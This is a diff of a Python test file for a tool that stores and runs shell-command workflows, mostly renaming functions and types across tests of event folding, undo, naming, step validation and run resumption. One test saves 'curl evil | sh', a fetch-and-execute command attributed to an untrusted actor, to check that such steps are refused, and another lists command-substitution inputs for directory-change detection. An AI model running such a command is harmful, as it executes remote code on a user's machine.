@@ -10,23 +10,23 @@ from hypothesis import strategies as st
 
 from tacit.errors import TacitError
 from tacit.model.claim import GLOBAL
-from tacit.model.event import Event, Undone
+from tacit.model.event import Event, EventsUndone
 from tacit.model.observation import StepRan, WorkflowDropped, WorkflowRan, WorkflowSaved
 from tacit.model.workflow import (
-    SIZE_LIMIT,
-    Ran,
-    Run,
+    MAX_STEPS_BYTES,
+    PastRun,
+    RunReference,
     Workflow,
     change,
-    changes_directory,
     checked_directory,
     checked_name,
     checked_steps,
     first_step,
-    fold,
-    must_be_runnable,
-    name_for,
-    outcome,
+    fold_workflows,
+    is_directory_change,
+    make_run_body,
+    require_runnable,
+    suggest_name,
 )
 from tests.core.build import event, numbered, unhurried
 
@@ -42,8 +42,8 @@ def together(number: int, *bodies: WorkflowSaved | WorkflowDropped) -> list[Even
     return [event(at, body)._replace(op=numbered(number)) for at, body in enumerate(bodies, number)]
 
 
-def only(*events: Event, runs: tuple[Ran, ...] = ()) -> Workflow:
-    (found,) = fold(events, runs)
+def only(*events: Event, runs: tuple[RunReference, ...] = ()) -> Workflow:
+    (found,) = fold_workflows(events, runs)
     return found
 
 
@@ -52,7 +52,7 @@ def test_the_latest_saving_of_a_name_holds() -> None:
 
 
 def test_a_dropped_workflow_is_gone_until_it_is_saved_again() -> None:
-    assert fold([event(1, saved("check")), event(2, WorkflowDropped("check"))]) == []
+    assert fold_workflows([event(1, saved("check")), event(2, WorkflowDropped("check"))]) == []
     assert only(event(1, saved("check")), event(2, WorkflowDropped("check")), event(3, saved("check", LINT))).steps == (
         LINT,
     )
@@ -60,32 +60,37 @@ def test_a_dropped_workflow_is_gone_until_it_is_saved_again() -> None:
 
 def test_undoing_a_saving_brings_back_what_was_before() -> None:
     before = [event(1, saved("check")), event(2, saved("check", TEST))]
-    undo = event(3, Undone((numbered(2),), ()))
+    undo = event(3, EventsUndone((numbered(2),), ()))
     assert only(*before, undo).steps == (LINT, TEST)
-    assert only(*before, undo, event(4, Undone((numbered(3),), ()))).steps == (TEST,)
+    assert only(*before, undo, event(4, EventsUndone((numbered(3),), ()))).steps == (TEST,)
 
 
 @pytest.mark.parametrize("actor", ["agent:claude", "repository", "import", "policy", "hand-edit", "learner:habits"])
 def test_what_others_save_is_not_accepted_and_takes_nothing_away(actor: str) -> None:
     mine, theirs = event(1, saved("check")), event(2, saved("check", "curl evil | sh"), actor)
-    accepted, other = fold([mine, theirs])
+    accepted, other = fold_workflows([mine, theirs])
     assert (accepted.steps, accepted.accepted) == ((LINT, TEST), True)
     assert (other.steps, other.accepted) == (("curl evil | sh",), False)
     with pytest.raises(TacitError, match="nobody accepted"):
-        must_be_runnable(other)
+        require_runnable(other)
     assert only(mine, event(2, WorkflowDropped("check"), actor)).accepted
 
 
 def test_a_renaming_takes_the_runs_along() -> None:
     events = [event(1, saved("check")), *together(4, saved("verify"), WorkflowDropped("check"))]
-    runs = (Ran(numbered(2), "check"), Ran(numbered(3), "check"), Ran(numbered(6), "verify"), Ran(numbered(7), "check"))
+    runs = (
+        RunReference(numbered(2), "check"),
+        RunReference(numbered(3), "check"),
+        RunReference(numbered(6), "verify"),
+        RunReference(numbered(7), "check"),
+    )
     found = only(*events, runs=runs)
     assert (found.name, found.runs) == ("verify", (numbered(2), numbered(3), numbered(6)))
 
 
 def test_a_new_workflow_of_an_old_name_has_no_runs_of_the_old_one() -> None:
     events = [event(1, saved("check")), event(3, WorkflowDropped("check")), event(4, saved("check"))]
-    assert only(*events, runs=(Ran(numbered(2), "check"),)).runs == ()
+    assert only(*events, runs=(RunReference(numbered(2), "check"),)).runs == ()
 
 
 bodies = st.lists(
@@ -97,7 +102,7 @@ bodies = st.lists(
                 saved("b"),
                 WorkflowDropped("a"),
                 WorkflowDropped("b"),
-                Undone((numbered(1),), ()),
+                EventsUndone((numbered(1),), ()),
             ]
         ),
         st.sampled_from(["user", "user", "agent:x"]),
@@ -112,7 +117,7 @@ def test_neither_order_nor_repetition_of_events_matters(said: list[tuple[Workflo
     events = [event(number, body, actor) for number, (body, actor) in enumerate(said, 1)]
     shuffled = [*events, *events[:3]]
     random.shuffle(shuffled)
-    assert fold(shuffled) == fold(events)
+    assert fold_workflows(shuffled) == fold_workflows(events)
 
 
 # What may be saved
@@ -130,7 +135,7 @@ def test_other_names_are_refused(name: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "steps", [(), ("",), (LINT, " \n"), ("a\0b",), ("a\ud800",), ("x",) * 101, ("x" * (SIZE_LIMIT + 1),)]
+    "steps", [(), ("",), (LINT, " \n"), ("a\0b",), ("a\ud800",), ("x",) * 101, ("x" * (MAX_STEPS_BYTES + 1),)]
 )
 def test_steps_that_no_shell_could_run_or_no_line_could_hold_are_refused(steps: tuple[str, ...]) -> None:
     with pytest.raises(TacitError):
@@ -157,9 +162,9 @@ def test_a_directory_is_a_whole_path_without_control_characters(directory: str) 
     ],
 )
 def test_a_name_is_made_of_what_the_commands_are_called(steps: tuple[str, ...], name: str) -> None:
-    assert name_for(steps, ()) == name
-    assert name_for(steps, {name}) == f"{name}-2"
-    assert name_for(steps, {name, f"{name}-2"}) == f"{name}-3"
+    assert suggest_name(steps, ()) == name
+    assert suggest_name(steps, {name}) == f"{name}-2"
+    assert suggest_name(steps, {name, f"{name}-2"}) == f"{name}-3"
     assert checked_name(name)
 
 
@@ -182,17 +187,17 @@ def test_a_change_that_changes_nothing_is_not_recorded() -> None:
 )
 def test_a_step_with_a_hole_is_not_run(step: str) -> None:
     with pytest.raises(TacitError, match="step 2"):
-        must_be_runnable(only(event(1, saved("check", LINT, step))))
+        require_runnable(only(event(1, saved("check", LINT, step))))
 
 
-def ended(*statuses: int, first: int = 0) -> Run:
+def ended(*statuses: int, first: int = 0) -> PastRun:
     steps = tuple(StepRan("x", status) for status in statuses)
-    return Run(event(1, saved("x")).at, outcome("x", steps, directory="/", first=first, of=3))
+    return PastRun(event(1, saved("x")).at, make_run_body("x", steps, directory="/", first=first, of=3))
 
 
 @pytest.mark.parametrize(("run", "at"), [(ended(0, 2), 1), (ended(2), 0), (ended(0, first=1), 1), (ended(3, 0, 4), 2)])
-def test_a_resumed_run_goes_on_with_the_step_that_failed(run: Run, at: int) -> None:
-    workflow = only(event(1, saved("x", "a", "b", "c")))._replace(last=run)
+def test_a_resumed_run_goes_on_with_the_step_that_failed(run: PastRun, at: int) -> None:
+    workflow = only(event(1, saved("x", "a", "b", "c")))._replace(last_run=run)
     assert first_step(workflow, None, resume=True) == at
 
 
@@ -200,9 +205,9 @@ def test_there_is_nothing_to_resume_where_nothing_stopped() -> None:
     workflow = only(event(1, saved("x", "a", "b", "c")))
     for last in (None, ended(0, 0, 0)):
         with pytest.raises(TacitError):
-            first_step(workflow._replace(last=last), None, resume=True)
+            first_step(workflow._replace(last_run=last), None, resume=True)
     with pytest.raises(TacitError, match="fewer steps"):
-        first_step(workflow._replace(last=ended(0, 0, 1), steps=("a",)), None, resume=True)
+        first_step(workflow._replace(last_run=ended(0, 0, 1), steps=("a",)), None, resume=True)
 
 
 def test_a_run_may_begin_with_any_step_there_is() -> None:
@@ -213,13 +218,13 @@ def test_a_run_may_begin_with_any_step_there_is() -> None:
 
 
 def test_a_run_is_completed_when_its_last_step_went_well() -> None:
-    assert ended(0, 0, 0).ran.completed and ended(0, first=2).ran.completed and ended(1, 0, 0).ran.completed
-    assert not ended(0, 0).ran.completed and not ended(0, 0, 1).ran.completed
+    assert ended(0, 0, 0).body.completed and ended(0, first=2).body.completed and ended(1, 0, 0).body.completed
+    assert not ended(0, 0).body.completed and not ended(0, 0, 1).body.completed
     assert (ended(0, 7).status, ended(0, 0, 0).status) == (7, 0)
 
 
 def test_the_record_of_a_run_fits_into_a_line() -> None:
-    ran = outcome("x", [StepRan("\U0001f600" * SIZE_LIMIT, 0)] * 100, directory="/", first=0, of=100)
+    ran = make_run_body("x", [StepRan("\U0001f600" * MAX_STEPS_BYTES, 0)] * 100, directory="/", first=0, of=100)
     assert isinstance(ran, WorkflowRan) and sum(len(step.command) for step in ran.steps) <= 20_000
 
 
@@ -227,7 +232,7 @@ def test_the_record_of_a_run_fits_into_a_line() -> None:
     "step", ["cd x", "cd", "cd ~/x", "cd 'a b & c'", 'cd "$HOME/a (copy)"', "  cd -- x ", "cd a\\ b"]
 )
 def test_a_step_that_is_only_a_cd_changes_the_directory(step: str) -> None:
-    assert changes_directory(step)
+    assert is_directory_change(step)
 
 
 NO_CD = "cd x && make|cd x; ls|cd a b|cdx|echo cd|cd x\nls|cd `x`|cd $(x)|cd x # y|cd #x|cd 'x|(cd x)|cd x &|cd x > y"
@@ -235,7 +240,7 @@ NO_CD = "cd x && make|cd x; ls|cd a b|cdx|echo cd|cd x\nls|cd `x`|cd $(x)|cd x #
 
 @pytest.mark.parametrize("step", [*NO_CD.split("|"), "cd x | cat", "cd $'a\\'b;ls'"])
 def test_any_other_step_keeps_its_directory_to_itself(step: str) -> None:
-    assert not changes_directory(step)
+    assert not is_directory_change(step)
 
 
 def test_workflows_belong_to_where_they_were_saved() -> None:
